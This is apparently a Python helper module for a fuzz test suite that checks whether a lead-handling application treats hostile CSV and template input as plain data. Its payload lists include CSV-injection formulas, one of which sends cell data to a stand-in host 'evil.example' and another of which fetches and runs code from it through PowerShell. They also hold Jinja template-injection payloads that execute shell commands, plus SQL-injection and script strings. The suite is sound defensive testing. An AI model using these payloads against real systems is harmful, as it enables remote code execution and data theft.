"""Shared pieces of the hostile-input suite (``tests/fuzz``).

Every fuzz test runs at two budgets: a CI budget (derandomized, so the suite is
deterministic and fast) and a bigger one marked ``slow`` (random, run with
``--runslow``). A test declares both with ``budget(ci, slow)`` and builds its
Hypothesis runner inside with ``fuzz(examples)``, so the same property is checked at
either size without a second copy of the test.

The checks that recur: a workspace dump (``dump``: every table's rows, via
``iterdump``) taken before and after a refused operation must be identical; output
must never contain a Python traceback (``no_traceback``).
"""

from __future__ import annotations

import os
import resource
import sqlite3
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, settings

import builders

NOW = builders.NOW
FROM = builders.FROM
#: The fuzzed workspace's agent: its texts use lead variables, so hostile values reach
#: the template renderer.
GREETING = "Hi {{NAME}}, this is Zara from Acme about case {{CASE_NUMBER}}. Press 9 to opt out."
PROMPT = "You are Zara from Acme. Case {{CASE_NUMBER}}, {{AMOUNT}}."

#: Values a lead vendor's CSV may carry that must stay data: spreadsheet formulas
#: (CSV injection), template syntax (server-side template injection), markup, and
#: characters that break naive parsers.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1",
    "=cmd|'/C powershell IEX(wget evil.example)'!A0", "+1", "-1", "@", "=", "+", "-",
]
TEMPLATE_PAYLOADS = [
    "{{ cycler.__init__.__globals__ }}", "{{7*7}}", "{{ 7*'7' }}", "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{% raw %}", "{{", "}}", "{%", "%}", "{#", "{{ NAME }}", "{{ config }}", "${7*7}", "#{7*7}",
    "{{ self._TemplateReference__context }}", "{% set x = 1 %}", "{{ request.application }}",
]
ODD_TEXT = [
    "", " ", "\ufeff", "\ufeffname", "a\ufeffb", "\x00", "\u202e\u0645\u0631\u062d\u0628\u0627",
    "<script>alert(1)</script>", "'; DROP TABLE leads; --", '"', '""', 'a"b', "\n", "\r\n", "\r",
    "[bold red]markup[/]", "\x1b[31mred\x1b[0m", "😀" * 3, "\u0000\u0001\u0002", "\\", "%s%n",
    "Robert'); DROP TABLE leads;--", "null", "NaN", "1e400", "-0", "０１２３",
]
HOSTILE_VALUES = FORMULAS + TEMPLATE_PAYLOADS + ODD_TEXT


def budget(ci: int, slow: int) -> list[Any]:
    """``@pytest.mark.parametrize("examples", budget(ci, slow))``: the two run sizes."""
    return [pytest.param(ci, id="ci"),
            pytest.param(slow, id="slow", marks=pytest.mark.slow)]


def fuzz(examples: int, **kw: Any) -> settings:
    """Hypothesis settings for one run: no deadline (real servers, real SQLite), no
    example database, derandomized at the CI budget."""
    return settings(
        max_examples=examples, deadline=None, database=None,
        derandomize=examples < 1000,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                               HealthCheck.data_too_large, HealthCheck.large_base_example,
                               HealthCheck.filter_too_much],
        **kw,
    )


@contextmanager
def memory_cap(headroom: int = 1 << 30):
    """Cap this process's address space at its current size + ``headroom``, so a size
    limit that fails shows up as a MemoryError in the test, not as the OOM killer
    taking the whole test run down."""
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    with open("/proc/self/statm") as f:
        size = int(f.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
    limit = size + headroom
    if hard != resource.RLIM_INFINITY:
        limit = min(limit, hard)
    resource.setrlimit(resource.RLIMIT_AS, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def dump(db: str | Path) -> list[str]:
    """Every row of every table (schema included), on a connection of its own."""
    conn = sqlite3.connect(str(db))
    try:
        return list(conn.iterdump())
    finally:
        conn.close()


def no_traceback(*texts: str | bytes | None) -> None:
    for text in texts:
        if text is None:
            continue
        if isinstance(text, bytes):
            text = text.decode("utf-8", "replace")
        assert "Traceback" not in text, text[-3000:]
        assert "Exception in ASGI application" not in text, text[-3000:]
